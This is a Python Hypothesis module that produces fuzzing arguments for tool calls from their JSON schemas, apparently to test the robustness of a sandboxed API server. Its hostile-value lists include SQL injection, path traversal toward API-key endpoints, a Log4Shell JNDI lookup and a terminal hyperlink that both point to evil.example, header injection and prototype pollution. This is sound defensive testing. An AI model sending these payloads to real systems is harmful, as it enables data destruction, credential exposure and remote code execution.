"""Hypothesis strategies for tool arguments: from each tool's advertised inputSchema, plus hostile mutations.

`arguments_for(schema, ids)` draws, in roughly equal shares: arguments the schema allows (with real schema ids
mixed in, so calls reach the sandbox's handlers and not only its 404), the same with one value replaced by
something hostile, with extra keys, or with a required key missing. Only the JSON Schema the tools use is
understood (type, enum, const, anyOf/oneOf, bounds, format, items, properties, required, additionalProperties);
anything else draws from any JSON value, which is hostile enough.
"""

from __future__ import annotations

from typing import Any

from hypothesis import strategies as st

JSON_SCALARS = st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False) | st.text(max_size=20)
JSON_VALUES = st.recursive(
    JSON_SCALARS,
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=8), inner, max_size=4),
    max_leaves=12,
)
CONTROL_AND_INVISIBLE = "\x00\x07\x1b[31m\r\n\t\x7f\u0085\u200b\u200d\u2028\u202e\u2066\ufeff"
HOSTILE_STRINGS = st.sampled_from(
    [
        "",
        " ",
        "A" * 240_000,  # far past any echo bound and the 25,000-token result cap
        "x" * 30_000 + CONTROL_AND_INVISIBLE * 50,
        CONTROL_AND_INVISIBLE,
        "\x1b]8;;http://evil.example\x07click\x1b]8;;\x07",
        "\u202egnp.exe",
        "../../../api/personal_api_keys/",
        "..%2F..%2Fexternal_data_sources%2F",
        "0193f0c1-5c4e-7000-8000-000000000201/../../",
        "0193f0c1-5c4e-7000-8000-000000000201/reload",
        "0193f0c1-5c4e-7000-8000-000000000201?limit=1000#",
        "0193F0C1-5C4E-7000-8000-000000000201",  # upper case
        "{0193f0c1-5c4e-7000-8000-000000000201}",
        "urn:uuid:0193f0c1-5c4e-7000-8000-000000000201",
        "00000000-0000-0000-0000-000000000000",
        "a\r\nX-Injected: 1",
        "@current",
        "@current/../2",
        "-1",
        "1e309",
        "NaN",
        "phx_not_a_real_key_but_shaped_like_one",
        "'; DROP TABLE external_data_schema; --",
        "${jndi:ldap://evil.example/a}",
        "🦔" * 5_000,
    ]
)
HOSTILE_NUMBERS = st.sampled_from([-1, 0, -(2**63), 2**63, 10**30, -0.5, 1.5, 1e308, -1e308])
HOSTILE_VALUES = st.one_of(
    HOSTILE_STRINGS,
    HOSTILE_NUMBERS,
    st.booleans(),
    st.none(),
    st.just([]),
    st.just({}),
    st.lists(HOSTILE_STRINGS, min_size=1, max_size=3),
    st.just({"$ref": "#", "__proto__": {"admin": True}}),
    st.just([[[[[[[[[[[]]]]]]]]]]]),
    JSON_VALUES,
)
HOSTILE_KEYS = st.one_of(
    st.sampled_from(["__proto__", "constructor", "personal_api_key", "project", "", "id ", "ID", "\u202eid"]),
    st.just("k" * 240_000),
    st.text(min_size=1, max_size=30),
)


def from_schema(schema: Any, ids: list[str], name: str = "") -> st.SearchStrategy[Any]:
    """Values the schema allows (a best effort over the subset the tools use)."""
    if not isinstance(schema, dict):
        return JSON_VALUES
    if "const" in schema:
        return st.just(schema["const"])
    if "enum" in schema:
        return st.sampled_from(schema["enum"])
    for combinator in ("anyOf", "oneOf"):
        if combinator in schema:
            return st.one_of([from_schema(option, ids, name) for option in schema[combinator]])
    types = schema.get("type")
    if types is None:
        return JSON_VALUES
    options = [types] if isinstance(types, str) else list(types)
    return st.one_of([_typed(kind, schema, ids, name) for kind in options])


def _typed(kind: str, schema: dict[str, Any], ids: list[str], name: str) -> st.SearchStrategy[Any]:
    if kind == "null":
        return st.none()
    if kind == "boolean":
        return st.booleans()
    if kind == "integer":
        return st.integers(min_value=schema.get("minimum"), max_value=schema.get("maximum"))
    if kind == "number":
        low, high = schema.get("minimum"), schema.get("maximum")
        return st.integers(min_value=low, max_value=high) | st.floats(
            min_value=low, max_value=high, allow_nan=False, allow_infinity=False
        )
    if kind == "string":
        return _strings(schema, ids, name)
    if kind == "array":
        return st.lists(
            from_schema(schema.get("items", {}), ids, name),
            min_size=schema.get("minItems", 0),
            max_size=min(schema.get("maxItems", 4), 4),
        )
    if kind == "object":
        return objects(schema, ids)
    return JSON_VALUES


def _strings(schema: dict[str, Any], ids: list[str], name: str) -> st.SearchStrategy[str]:
    if schema.get("format") == "uuid" or name == "id":
        # Mostly real ids, so most calls get past the 404 to the handler.
        return _mostly(st.sampled_from(ids), st.uuids().map(str)) if ids else st.uuids().map(str)
    if name == "project_id":
        return _mostly(st.sampled_from(["@current", "1"]), st.sampled_from(["2", "3", "999", "@current "]))
    if "pattern" in schema:
        return st.from_regex(schema["pattern"], fullmatch=True)
    if schema.get("format") == "date-time":
        return st.datetimes().map(lambda value: value.isoformat() + "Z")
    low = schema.get("minLength", 0)
    return st.text(min_size=low, max_size=max(low, min(schema.get("maxLength", 40), 40)))


def _mostly(usual: st.SearchStrategy[str], rare: st.SearchStrategy[str]) -> st.SearchStrategy[str]:
    """`usual` four times in five."""
    return st.integers(0, 4).flatmap(lambda roll: rare if roll == 0 else usual)


def objects(schema: dict[str, Any], ids: list[str]) -> st.SearchStrategy[dict[str, Any]]:
    properties: dict[str, Any] = schema.get("properties", {})
    required = [key for key in schema.get("required", []) if key in properties]
    optional = [key for key in properties if key not in required]
    return st.fixed_dictionaries(
        {key: from_schema(properties[key], ids, key) for key in required},
        optional={key: from_schema(properties[key], ids, key) for key in optional},
    )


@st.composite
def _mutated(draw: st.DrawFn, schema: dict[str, Any], ids: list[str]) -> dict[str, Any]:
    arguments = dict(draw(objects(schema, ids)))
    properties = list(schema.get("properties", {}))
    mutation = draw(st.sampled_from(["replace", "extra", "drop", "both"]))
    if mutation in ("replace", "both") and properties:
        arguments[draw(st.sampled_from(properties))] = draw(HOSTILE_VALUES)
    if mutation in ("extra", "both"):
        arguments[draw(HOSTILE_KEYS)] = draw(HOSTILE_VALUES)
    if mutation == "drop" and arguments:
        arguments.pop(draw(st.sampled_from(sorted(arguments))))
    return arguments


def arguments_for(schema: dict[str, Any], ids: list[str]) -> st.SearchStrategy[dict[str, Any]]:
    return st.one_of(objects(schema, ids), _mutated(schema, ids))
